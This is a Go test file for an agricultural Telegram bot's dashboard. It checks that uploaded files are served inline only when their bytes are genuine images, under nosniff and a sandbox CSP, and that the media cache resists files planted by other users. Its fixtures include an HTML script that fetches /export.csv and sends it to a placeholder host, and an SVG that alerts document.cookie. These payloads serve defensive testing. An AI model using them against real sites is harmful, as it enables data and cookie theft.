package web_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agriclinic/agriclinic/bot"
	"github.com/agriclinic/agriclinic/bot/telegramtest"
	"github.com/agriclinic/agriclinic/consult"
	"github.com/agriclinic/agriclinic/store"
	"github.com/agriclinic/agriclinic/web"
)

// mediaCSP is what every file the dashboard serves is confined by.
const mediaCSP = "default-src 'none'; img-src 'self'; sandbox"

// A farmer's files, by what their bytes are (the names say otherwise where it hurts).
var (
	jpegBytes = append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"), make([]byte, 64)...)
	pngBytes  = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), make([]byte, 64)...)
	gifBytes  = append([]byte("GIF89a\x01\x00\x01\x00"), make([]byte, 64)...)
	webpBytes = append([]byte("RIFF\x24\x00\x00\x00WEBPVP8 "), make([]byte, 64)...)
	htmlBytes = []byte("<!DOCTYPE html><html><body><script>fetch('/export.csv').then(r=>r.text()).then(t=>location='http://x/?'+t)</script></body></html>")
	svgBytes  = []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>`)
	exeBytes  = append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), make([]byte, 64)...)
	pdfBytes  = []byte("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n")
)

// mediaDash is a dashboard whose one question carries the given files, each sent to
// the fake Telegram as a document (so the bytes are exactly these), in order.
type mediaDash struct {
	srv      *httptest.Server
	browser  *http.Client
	question int64
	tg       *telegramtest.Server
	media    []store.Media
}

func newMediaDash(t *testing.T, cacheDir string, files ...telegramtest.Post) *mediaDash {
	t.Helper()
	tg := telegramtest.NewServer(t)
	client, err := bot.NewClient(context.Background(), tg.Token(), tg.URL())
	if err != nil {
		t.Fatal(err)
	}
	group := tg.NewGroup("白泥群")
	farmer := tg.NewUser("张", "", "zh")
	var media []store.Media
	var first int
	for i, f := range files {
		m := tg.Post(group, farmer, f)
		if i == 0 {
			first = m.MessageID
		}
		item := store.Media{ChatID: group.ID, MessageID: int64(m.MessageID)}
		switch {
		case len(m.Photo) > 0:
			item.Kind, item.FileID, item.FileUniqueID = store.MediaPhoto, m.Photo[len(m.Photo)-1].FileID, m.Photo[len(m.Photo)-1].FileUniqueID
		case m.Document != nil:
			item.Kind, item.FileID, item.FileUniqueID = store.MediaDocument, m.Document.FileID, m.Document.FileUniqueID
		default:
			t.Fatalf("post %d carries no file", i)
		}
		media = append(media, item)
	}
	svc, db := boundService(t, group.ID)
	ctx := context.Background()
	res, err := svc.Ask(ctx, consult.AskInput{ChatID: group.ID, MessageID: int64(first), Farmer: consult.Person{ID: 5, Name: "张"},
		Text: "看看这些文件", UpdateID: 1, Media: media}, nil)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	(&web.Dashboard{Svc: svc, DB: db, Files: client, CacheDir: cacheDir}).Register(mux)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	browser, _ := (&dash{svc: svc, srv: srv}).signIn(t, 9001)
	return &mediaDash{srv: srv, browser: browser, question: res.Question.ID, tg: tg, media: media}
}

// fetch gets the question's nth file.
func (m *mediaDash) fetch(t *testing.T, n int) (*http.Response, []byte) {
	t.Helper()
	resp, err := m.browser.Get(fmt.Sprintf("%s/media/%d/%d", m.srv.URL, m.question, n))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, body
}

func TestAFarmersFileIsShownInlineOnlyWhenItsBytesAreAnImage(t *testing.T) {
	t.Parallel()
	files := []struct {
		name   string
		post   telegramtest.Post
		inline string // the Content-Type it is shown with; "" for an attachment
	}{
		{"a photo", telegramtest.Post{Photo: true}, "image/jpeg"},
		{"a JPEG document", telegramtest.Post{Document: true, FileName: "leaf.jpg", Data: jpegBytes}, "image/jpeg"},
		{"a PNG document", telegramtest.Post{Document: true, FileName: "leaf.png", Data: pngBytes}, "image/png"},
		{"a GIF document", telegramtest.Post{Document: true, FileName: "leaf.gif", Data: gifBytes}, "image/gif"},
		{"a WebP document", telegramtest.Post{Document: true, FileName: "leaf.webp", Data: webpBytes}, "image/webp"},
		{"an HTML file", telegramtest.Post{Document: true, FileName: "病害.html", Data: htmlBytes}, ""},
		{"HTML named as a photo", telegramtest.Post{Document: true, FileName: "leaf.jpg", Data: htmlBytes}, ""},
		{"an SVG file", telegramtest.Post{Document: true, FileName: "leaf.svg", Data: svgBytes}, ""},
		{"a program", telegramtest.Post{Document: true, FileName: "setup.exe", Data: exeBytes}, ""},
		{"a PDF", telegramtest.Post{Document: true, FileName: "report.pdf", Data: pdfBytes}, ""},
	}
	posts := make([]telegramtest.Post, len(files))
	for i, f := range files {
		posts[i] = f.post
	}
	m := newMediaDash(t, t.TempDir(), posts...)
	for i, f := range files {
		want, _ := m.tg.FileBytes(m.media[i].FileID)
		resp, body := m.fetch(t, i)
		h := resp.Header
		if resp.StatusCode != http.StatusOK || string(body) != string(want) {
			t.Errorf("%s: %d, %d bytes; want 200 and the %d bytes Telegram keeps", f.name, resp.StatusCode, len(body), len(want))
		}
		if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Security-Policy") != mediaCSP {
			t.Errorf("%s: nosniff %q, CSP %q; want nosniff and %q", f.name, h.Get("X-Content-Type-Options"), h.Get("Content-Security-Policy"), mediaCSP)
		}
		if f.inline != "" {
			if h.Get("Content-Type") != f.inline || strings.HasPrefix(h.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s: Content-Type %q, Content-Disposition %q; want %s shown inline", f.name, h.Get("Content-Type"), h.Get("Content-Disposition"), f.inline)
			}
			continue
		}
		if h.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") {
			t.Errorf("%s: Content-Type %q, Content-Disposition %q; want application/octet-stream as an attachment", f.name, h.Get("Content-Type"), h.Get("Content-Disposition"))
		}
	}
}

func TestTheMediaCacheIsNeverADirectoryOthersCanWrite(t *testing.T) {
	t.Parallel()
	shared := t.TempDir()
	if err := os.Chmod(shared, 0o777); err != nil {
		t.Fatal(err)
	}
	m := newMediaDash(t, shared, telegramtest.Post{Document: true, FileName: "leaf.png", Data: pngBytes})
	// Someone else on the machine plants a page under the name the photo will be cached as.
	planted := filepath.Join(shared, m.media[0].FileUniqueID)
	if err := os.WriteFile(planted, htmlBytes, 0o666); err != nil {
		t.Fatal(err)
	}
	resp, body := m.fetch(t, 0)
	if string(body) != string(pngBytes) || resp.Header.Get("Content-Type") != "image/png" {
		t.Errorf("served %q as %s; want the farmer's PNG from Telegram, not the file planted in a shared cache", body, resp.Header.Get("Content-Type"))
	}
	if data, _ := os.ReadFile(planted); string(data) != string(htmlBytes) {
		t.Error("the dashboard wrote its copy into a directory others can write")
	}

	// A cache directory that is not there yet is made for this user alone.
	fresh := filepath.Join(t.TempDir(), "media")
	m = newMediaDash(t, fresh, telegramtest.Post{Document: true, FileName: "leaf.png", Data: pngBytes})
	m.fetch(t, 0)
	st, err := os.Stat(fresh)
	if err != nil || st.Mode().Perm() != 0o700 {
		t.Fatalf("the cache directory: %v, %v; want made with mode 0700", st, err)
	}
	cached, err := os.Stat(filepath.Join(fresh, m.media[0].FileUniqueID))
	if err != nil || cached.Mode().Perm() != 0o600 {
		t.Errorf("the cached copy: %v, %v; want mode 0600", cached, err)
	}
}
